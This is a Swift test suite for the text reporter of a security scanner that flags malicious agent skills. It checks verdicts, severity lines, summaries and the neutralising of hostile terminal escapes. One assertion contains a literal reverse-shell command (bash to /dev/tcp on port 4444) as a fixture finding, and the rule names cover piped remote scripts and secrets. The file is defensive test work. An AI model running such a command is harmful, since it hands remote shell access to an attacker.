import Foundation
import SkillScanCore
import SkillScanReporters
import Testing

@Suite struct TextReporterTests {
  private func render(_ report: ScanReport = SampleReport.report, color: Bool = false, onlyFlagged: Bool = false) throws -> String {
    let reporter = TextReporter(options: ReportOptions(useColor: color, onlyFlagged: onlyFlagged))
    return String(decoding: try reporter.render(report), as: UTF8.self)
  }

  @Test func everyFindingLineNamesSeverityRuleAndLocation() throws {
    let lines = try render().split(separator: "\n").map(String.init)
    let expectations = [
      ("high", "remote-script-piped-to-shell", "SKILL.md:12:3"),
      ("medium", "unicode-bidi-override", "SKILL.md:20:1"),
      ("critical", "reverse-shell", "scripts/run.sh:4:1"),
      ("low", "hardcoded-secret", "tests/data.txt:1:7"),
      ("medium", "unreadable-skill", "(skill)"),
    ]
    for (severity, rule, location) in expectations {
      let line = lines.first { $0.contains(" \(rule) ") }
      #expect(line?.contains(severity) == true, "\(rule): \(line ?? "no line")")
      #expect(line?.contains(location) == true, "\(rule): \(line ?? "no line")")
    }
    #expect(lines.contains { $0.contains("| bash -i >& /dev/tcp/203.0.113.7/4444 0>&1") })
  }

  @Test func findingsAreGroupedBySkillThenFile() throws {
    let text = try render()
    let order = ["skills/evil", "  SKILL.md", "remote-script-piped-to-shell", "  scripts/run.sh",
      "reverse-shell", "  tests/data.txt", "hardcoded-secret", "skills/fine", "uploads/bad.zip"]
    var cursor = text.startIndex
    for marker in order {
      let found = text.range(of: marker, range: cursor..<text.endIndex)
      #expect(found != nil, "\(marker) missing or out of order")
      if let found { cursor = found.upperBound }
    }
  }

  @Test func eachSkillHasAVerdictLineWithScoreAndTopReasons() throws {
    let text = try render()
    #expect(text.contains("verdict: MALICIOUS  score 96/100  (3 active findings)"))
    #expect(text.contains("verdict: SAFE  score 0/100  (0 active findings)"))
    #expect(text.contains("verdict: SUSPICIOUS  score 30/100  (1 active finding)"))
    #expect(text.contains("    - reverse-shell (W-REVSHELL, critical) at scripts/run.sh:4"))
    #expect(text.contains("    - third reason"))
    #expect(!text.contains("fourth reason"))
    #expect(text.contains("(+1 more)"))
    #expect(text.contains("error: truncated archive"))
  }

  @Test func suppressedFindingsStayVisibleAndMarked() throws {
    let line = try render().split(separator: "\n").first { $0.contains("hardcoded-secret") }
    #expect(line?.contains("[suppressed (inline): test fixture]") == true)
  }

  @Test func summaryTableCountsVerdictsAndSeverities() throws {
    let text = try render()
    let tail = String(text[(text.range(of: "Summary")?.lowerBound ?? text.startIndex)...])
    let rows = Dictionary(
      tail.split(separator: "\n").dropFirst().compactMap { line -> (String, Int)? in
        let parts = line.split(separator: " ")
        guard parts.count == 2, let n = Int(parts[1]) else { return nil }
        return (String(parts[0]), n)
      }, uniquingKeysWith: { a, _ in a })
    #expect(rows["skills"] == 3)
    #expect(rows["malicious"] == 1 && rows["suspicious"] == 1 && rows["safe"] == 1)
    #expect(rows["findings"] == 4)
    #expect(rows["critical"] == 1 && rows["high"] == 1 && rows["medium"] == 2 && rows["low"] == 0)
    #expect(rows["suppressed"] == 1)
    #expect(rows["errors"] == 1)
  }

  @Test func noEscapeCodesWithoutColourAndHostileTextIsNeutralised() throws {
    let plain = try render()
    #expect(!plain.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 })
    #expect(!plain.unicodeScalars.contains { $0 == "\u{202E}" })
    #expect(plain.contains("<U+202E>gnp.exe"))
    #expect(plain.contains("see \u{FFFD}]0;pwned\u{FFFD} here"))
  }

  @Test func colourAddsStylingButNeverPassesAttackerEscapes() throws {
    let coloured = try render(color: true)
    #expect(coloured.contains("\u{1B}[1;31mMALICIOUS\u{1B}[0m"))
    #expect(!coloured.contains("\u{1B}]0;pwned"))
    #expect(!coloured.unicodeScalars.contains { $0.value == 0x07 })
  }

  @Test func onlyFlaggedHidesSafeSkillsButKeepsTheirCount() throws {
    let text = try render(onlyFlagged: true)
    #expect(text.contains("skills/evil") && text.contains("uploads/bad.zip"))
    #expect(!text.contains("skills/fine"))
    #expect(text.contains("verdict: SUSPICIOUS"))
  }

  @Test func emptyReportStillPrintsASummary() throws {
    let text = try render(SampleReport.empty)
    #expect(text.hasPrefix("skillscan 9.9.9-test"))
    #expect(text.contains("Summary"))
  }

  @Test func outputFormatWritersStreamTheSameBytesToAFile() throws {
    #expect(OutputFormat.allCases.map(\.rawValue) == ["text", "json", "sarif", "markdown", "html"])
    for format in OutputFormat.allCases {
      let url = FileManager.default.temporaryDirectory
        .appendingPathComponent("skillscan-\(format.rawValue)-\(UUID().uuidString)")
      #expect(FileManager.default.createFile(atPath: url.path, contents: nil))
      defer { try? FileManager.default.removeItem(at: url) }
      let handle = try FileHandle(forWritingTo: url)
      // A tiny buffer forces many partial flushes.
      var writer = format.makeWriter(output: FileHandleOutput(handle, bufferSize: 16))
      try writer.write(report: SampleReport.report)
      try handle.close()
      let expected = try format.makeReporter().render(SampleReport.report)
      #expect(try Data(contentsOf: url) == expected, "\(format)")
    }
  }
}
